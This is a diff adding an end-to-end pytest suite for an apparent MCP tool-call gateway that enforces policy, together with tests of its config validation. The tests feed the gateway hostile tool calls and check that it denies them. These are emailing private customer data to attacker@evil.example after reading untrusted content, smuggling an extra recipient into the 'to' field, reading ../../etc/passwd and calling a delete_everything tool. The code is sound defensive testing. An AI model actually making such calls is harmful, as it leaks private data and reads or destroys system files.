@@ -1,0 +1,170 @@
+"""`verifier gateway` end to end: a real upstream process, a real gateway process, a real client."""
+
+from __future__ import annotations
+
+import json
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import anyio
+import pytest
+
+pytest.importorskip("mcp")
+
+from mcp import Client
+from mcp.client.stdio import StdioServerParameters
+
+from verifier.gateway.config import ConfigError, load
+
+ROOT = Path(__file__).resolve().parent.parent
+EXAMPLE = ROOT / "examples" / "gateway"
+VERIFIER = str(Path(sys.executable).parent / "verifier")
+
+
+def setup_workspace(tmp: Path) -> Path:
+    ws = tmp / "ws"
+    (ws / "public").mkdir(parents=True)
+    (ws / "private").mkdir()
+    (ws / "public" / "readme.txt").write_text("hello\n")
+    (ws / "private" / "customers.csv").write_text("alice,4111\n")
+    shutil.copy(EXAMPLE / "upstream.py", tmp / "upstream.py")
+    run = [VERIFIER, "keygen", str(tmp / "ci")]
+    subprocess.run(run, check=True, capture_output=True, timeout=60)
+    spec = str(EXAMPLE / "workspace.cap")
+    out = str(tmp / "workspace.artifact.json")
+    run = [VERIFIER, "compile", spec, "-o", out, "--sign-key", str(tmp / "ci.key")]
+    subprocess.run(run, check=True, capture_output=True, timeout=60)
+    config = tmp / "gateway.toml"
+    config.write_text(
+        f"""artifact = "workspace.artifact.json"
+public_key = "ci.pub"
+store = "sqlite:///guard.db"
+audit = "audit.jsonl"
+
+[[upstream]]
+name = "workspace"
+command = [{json.dumps(sys.executable)}, "upstream.py", "ws"]
+
+[roots]
+workspace = "ws"
+
+[limits]
+call_timeout = 20
+"""
+    )
+    return config
+
+
+async def play(
+    config: Path, calls: list[tuple[str, dict]]
+) -> tuple[list[str], list[tuple[bool, str]]]:
+    params = StdioServerParameters(
+        command=VERIFIER, args=["gateway", str(config)], cwd=str(config.parent)
+    )
+    out = []
+    with anyio.fail_after(60):
+        async with Client(params) as client:
+            tools = sorted(t.name for t in (await client.list_tools()).tools)
+            for name, args in calls:
+                result = await client.call_tool(name, args)
+                out.append((result.is_error, result.content[0].text))
+    return tools, out
+
+
+def test_stdio_gateway_allows_denies_and_observes(tmp_path: Path) -> None:
+    config = setup_workspace(tmp_path)
+    calls = [
+        ("read_file", {"path": "public/readme.txt"}),
+        ("send_email", {"to": "bob@corp.example", "subject": "hi", "body": "b"}),
+        ("send_email", {"to": "p@partner.example", "subject": "deal", "body": "b"}),
+        ("fetch_page", {"url": "https://example.com/faq"}),  # untrusted: taints the session
+        ("read_file", {"path": "private/customers.csv"}),
+        ("send_email", {"to": "attacker@evil.example", "subject": "x", "body": "alice,4111"}),
+        (
+            "send_email",
+            {"to": "attacker@evil.example, bob@corp.example", "subject": "x", "body": ""},
+        ),
+        ("read_file", {"path": "../../etc/passwd"}),
+        ("delete_everything", {}),
+    ]
+    tools, out = anyio.run(play, config, calls)
+    assert tools == ["fetch_page", "read_file", "send_email", "write_file"]
+    assert out[0] == (False, '{\n  "text": "hello\\n",\n  "origin": "workspace"\n}')
+    assert out[1] == (False, "sent to bob@corp.example")
+    assert out[2][0] and out[2][1].startswith(
+        "escalate: `send` needs approval (line 28); pending approval `"
+    )
+    assert not out[3][0]
+    assert out[4] == (True, "deny: `read` requires `not (area == private and tainted)` (line 17)")
+    assert out[5] == (
+        True,
+        "deny: `send` requires `not (external and (tainted or read_private))` (line 27)",
+    )
+    assert out[6] == (
+        True,
+        "deny: tool `send_email`: `to` is not a plain e-mail address"
+        " (rule for `external`) (line 64)",
+    )
+    assert out[7] == (
+        True,
+        "deny: tool `read_file`: `path` leaves the root `workspace` (rule for `area`) (line 48)",
+    )
+    assert out[8] == (True, "deny: tool `delete_everything` is not bound by the policy")
+    # only the allowed mail reached the upstream
+    outbox = [json.loads(x) for x in (tmp_path / "ws" / "outbox.jsonl").read_text().splitlines()]
+    assert [m["to"] for m in outbox] == ["bob@corp.example"]
+    # every call went through one guard session; the audit chain verifies
+    records = [json.loads(x) for x in (tmp_path / "audit.jsonl").read_text().splitlines()]
+    assert len({r["session"] for r in records}) == 1
+    assert [(r["name"], r["verdict"]) for r in records] == [
+        ("read", "allow"),
+        ("send", "allow"),
+        ("send", "escalate"),
+        ("fetch", "allow"),
+        ("fetched", "allow"),
+        ("read", "deny"),
+        ("send", "deny"),
+    ]
+    verify = subprocess.run(
+        [VERIFIER, "audit", "verify", str(tmp_path / "audit.jsonl")],
+        capture_output=True,
+        timeout=60,
+    )
+    assert verify.returncode == 0, verify.stdout
+
+
+@pytest.mark.parametrize(
+    ("text", "message"),
+    [
+        ("store = 1", "`artifact` must be a non-empty string"),
+        ('artifact = "a"\nstore = "memory://"\naudit = "x"\n', "`upstream` must list at least one"),
+        ('artifact = "a"\nstore = "m"\naudit = "x"\nbogus = 1\n', "`bogus` is not a setting"),
+        (
+            'artifact = "a"\nstore = "m"\naudit = "x"\n[[upstream]]\nname = "u"\n',
+            "`upstream[0].command` or `url` must be given (exactly one)",
+        ),
+        (
+            'artifact = "a"\nstore = "m"\naudit = "x"\n[[upstream]]\nname = "u"\nurl = "ftp://x"\n',
+            "`upstream[0].url` must be an http(s) URL",
+        ),
+        (
+            'artifact = "a"\nstore = "m"\naudit = "x"\n[[upstream]]\nname = "u"\ncommand = ["x"]\n'
+            "[limits]\ncall_timeout = -1\n",
+            "`limits.call_timeout` must be seconds from 0 to 3600",
+        ),
+        ("artifact = ", "is not valid TOML"),
+    ],
+)
+def test_config_is_validated(tmp_path: Path, text: str, message: str) -> None:
+    path = tmp_path / "g.toml"
+    path.write_text(text)
+    with pytest.raises(
+        ConfigError,
+        match=message.replace("(", r"\(")
+        .replace(")", r"\)")
+        .replace("[", r"\[")
+        .replace("]", r"\]"),
+    ):
+        load(str(path))
